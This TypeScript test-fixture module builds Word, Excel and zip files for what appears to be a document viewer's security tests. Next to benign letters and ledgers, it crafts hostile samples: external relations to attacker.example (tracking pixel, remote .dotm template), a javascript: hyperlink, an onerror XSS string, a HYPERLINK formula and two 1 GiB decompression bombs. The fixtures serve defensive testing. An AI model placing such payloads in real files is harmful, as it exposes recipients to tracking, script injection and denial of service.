import { pngFile } from './image-files.ts'
import { utf8 } from './source-file.ts'
import { deflatedSpaces, writeZip } from './zip-writer.ts'
import type { ZipEntry } from './zip-writer.ts'

export const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006'
export const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const TYPES = 'application/vnd.openxmlformats-officedocument'

export interface Relation {
  id: string
  type: string
  target: string
  external?: boolean
}

export const relations = (all: readonly Relation[]): string =>
  `${XML}<Relationships xmlns="${PACKAGE}/relationships">${all
    .map(
      ({ id, type, target, external }) =>
        `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`,
    )
    .join('')}</Relationships>`

const contentTypes = (overrides: readonly [part: string, type: string][]): string =>
  `${XML}<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>${overrides
    .map(([part, type]) => `<Override PartName="${part}" ContentType="${TYPES}.${type}+xml"/>`)
    .join('')}</Types>`

const DOCX_NAMESPACES =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="' +
  OFFICE +
  '" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'

export const paragraph = (text: string, style?: string): string =>
  `<w:p>${style ? `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>` : ''}<w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`

export const picture = (attribute: string): string =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="3048000" cy="1905000"/><wp:docPr id="1" name="Logo" descr="Company logo"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip ${attribute}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`

export const link = (id: string, text: string): string =>
  `<w:p><w:hyperlink r:id="${id}"><w:r><w:t>${text}</w:t></w:r></w:hyperlink></w:p>`

const tableRow = (cells: readonly string[]): string =>
  `<w:tr>${cells.map((cell) => `<w:tc>${paragraph(cell)}</w:tc>`).join('')}</w:tr>`

/** A Word document around a body; `parts` come after those every document has. */
export function docx(
  body: string | Uint8Array,
  more: readonly Relation[] = [],
  parts: readonly ZipEntry[] = [],
): Uint8Array {
  const document =
    typeof body === 'string'
      ? {
          name: 'word/document.xml',
          data: utf8(`${XML}<w:document ${DOCX_NAMESPACES}><w:body>${body}</w:body></w:document>`),
        }
      : { name: 'word/document.xml', data: body, deflated: { claims: 4000 } }
  return writeZip([
    {
      name: '[Content_Types].xml',
      data: utf8(contentTypes([['/word/document.xml', 'wordprocessingml.document.main']])),
    },
    {
      name: '_rels/.rels',
      data: utf8(relations([{ id: 'rId1', type: 'officeDocument', target: 'word/document.xml' }])),
    },
    document,
    {
      name: 'word/_rels/document.xml.rels',
      data: utf8(relations([{ id: 'rId1', type: 'image', target: 'media/logo.png' }, ...more])),
    },
    { name: 'word/media/logo.png', data: pngFile(320, 200) },
    ...parts,
  ])
}

/** A letter with headings, a table and a picture of its own. */
export function docxFile(): Uint8Array {
  return docx(
    paragraph('Credit agreement', 'Heading1') +
      paragraph('The customer is granted a credit line of 25,000.00 in the currency of the account.') +
      paragraph('Limits', 'Heading2') +
      `<w:tbl>${tableRow(['Currency', 'Limit'])}${tableRow(['GBP', '25,000.00'])}${tableRow(['EUR', '29,500.00'])}</w:tbl>` +
      picture('r:embed="rId1"'),
  )
}

/** Links, a picture and a template that live elsewhere: none of them may be fetched. */
export function docxWithExternals(): Uint8Array {
  return docx(
    paragraph('Letter with outside parts', 'Heading1') +
      picture('r:link="rId2"') +
      link('rId3', 'A link that runs script') +
      link('rId4', 'A link elsewhere') +
      paragraph('&lt;img src=x onerror=&quot;globalThis.deskPayload=1&quot;&gt;'),
    [
      { id: 'rId2', type: 'image', target: 'https://attacker.example/pixel.png', external: true },
      { id: 'rId3', type: 'hyperlink', target: "javascript:globalThis.deskPayload='docx'", external: true },
      { id: 'rId4', type: 'hyperlink', target: 'https://attacker.example/', external: true },
      {
        id: 'rId5',
        type: 'attachedTemplate',
        target: 'https://attacker.example/template.dotm',
        external: true,
      },
    ],
  )
}

/** Says it unpacks to 4 kB; unpacks to 1 GiB. */
export function docxBomb(): Uint8Array {
  return docx(
    deflatedSpaces(
      `${XML}<w:document ${DOCX_NAMESPACES}><w:body><w:p><w:r><w:t>`,
      1024,
      '</w:t></w:r></w:p></w:body></w:document>',
    ),
  )
}

const columnName = (index: number): string => String.fromCharCode(65 + index)

const cell = (value: string | number, column: number, row: number): string => {
  const place = `${columnName(column)}${row}`
  return typeof value === 'number'
    ? `<c r="${place}"><v>${value}</v></c>`
    : `<c r="${place}" t="inlineStr"><is><t>${value}</t></is></c>`
}

function sheet(rows: readonly (readonly (string | number)[])[]): string {
  const body = rows
    .map((values, index) => {
      const cells = values.map((value, column) => cell(value, column, index + 1)).join('')
      return `<row r="${index + 1}">${cells}</row>`
    })
    .join('')
  return `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${body}</sheetData></worksheet>`
}

/** A workbook of sheets; `parts` come after those every workbook has. */
export function xlsx(
  sheets: readonly { name: string; data: Uint8Array; deflated?: { claims: number } }[],
  parts: readonly ZipEntry[] = [],
): Uint8Array {
  const names = sheets
    .map(({ name }, index) => `<sheet name="${name}" sheetId="${index + 1}" r:id="rId${index + 1}"/>`)
    .join('')
  return writeZip([
    {
      name: '[Content_Types].xml',
      data: utf8(
        contentTypes([
          ['/xl/workbook.xml', 'spreadsheetml.sheet.main'],
          ...sheets.map((_, index): [string, string] => [
            `/xl/worksheets/sheet${index + 1}.xml`,
            'spreadsheetml.worksheet',
          ]),
        ]),
      ),
    },
    {
      name: '_rels/.rels',
      data: utf8(relations([{ id: 'rId1', type: 'officeDocument', target: 'xl/workbook.xml' }])),
    },
    {
      name: 'xl/workbook.xml',
      data: utf8(
        `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheets>${names}</sheets></workbook>`,
      ),
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: utf8(
        relations(
          sheets.map((_, index) => ({
            id: `rId${index + 1}`,
            type: 'worksheet',
            target: `worksheets/sheet${index + 1}.xml`,
          })),
        ),
      ),
    },
    ...sheets.map(({ data, deflated }, index) => ({
      name: `xl/worksheets/sheet${index + 1}.xml`,
      data,
      ...(deflated && { deflated }),
    })),
    ...parts,
  ])
}

/** Two sheets: text, numbers, and a text that would be a formula elsewhere. */
export function xlsxFile(): Uint8Array {
  const ledger = Array.from({ length: 200 }, (_, index) => [
    `INV-${1000 + index}`,
    `2026-0${1 + (index % 9)}-14`,
    Math.round(100 * (17.35 * (index + 1))) / 100,
    index % 3 === 0 ? 'Paid' : 'Open',
  ])
  return xlsx([
    { name: 'Ledger', data: utf8(sheet([['Invoice', 'Date', 'Amount', 'State'], ...ledger])) },
    {
      name: 'Notes',
      data: utf8(
        sheet([['Note'], ['=HYPERLINK(&quot;https://attacker.example/&quot;)'], ['Ask before sending.']]),
      ),
    },
  ])
}

/** Honest about its size: 1 GiB of spaces between two cells. */
export function xlsxBomb(): Uint8Array {
  return xlsx([
    {
      name: 'Ledger',
      data: deflatedSpaces(
        `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`,
        1024,
        '</sheetData></worksheet>',
      ),
      deflated: { claims: 1024 ** 3 },
    },
  ])
}

export function zipFile(): Uint8Array {
  return writeZip([
    { name: 'read me.txt', data: utf8('Statements of the last two quarters.\n') },
    { name: 'statements/2026-Q1.csv', data: utf8('date,amount\n2026-01-31,120.00\n') },
    { name: 'statements/2026-Q2.csv', data: utf8('date,amount\n2026-04-30,95.50\n') },
  ])
}
